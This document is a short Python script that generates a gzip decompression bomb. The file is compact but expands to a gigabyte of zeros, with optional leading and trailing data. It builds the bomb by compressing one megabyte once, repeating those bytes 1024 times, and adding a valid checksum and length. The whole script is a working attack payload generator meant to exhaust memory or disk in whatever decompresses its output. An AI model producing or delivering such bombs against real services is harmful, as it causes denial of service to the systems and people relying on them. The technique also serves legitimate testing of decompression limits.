"""bomb.py BEFORE AFTER: gzip data of BEFORE, a gigabyte of zeros, and AFTER.

Fast, as a megabyte is packed once and its bytes repeated."""
import sys
import zlib

MEGABYTE = bytes(1 << 20)


def gzip_bomb(before=b"", after=b""):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    zeros = packer.compress(MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(after) + packer.flush()
    crc = zlib.crc32(before)
    for _ in range(1024):
        crc = zlib.crc32(MEGABYTE, crc)
    crc = zlib.crc32(after, crc)
    length = len(before) + (1 << 30) + len(after)
    return (b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + head + zeros * 1024 + tail +
            crc.to_bytes(4, "little") + (length & 0xFFFFFFFF).to_bytes(4, "little"))


if __name__ == "__main__":
    sys.stdout.buffer.write(gzip_bomb(*[a.encode() for a in sys.argv[1:]]))
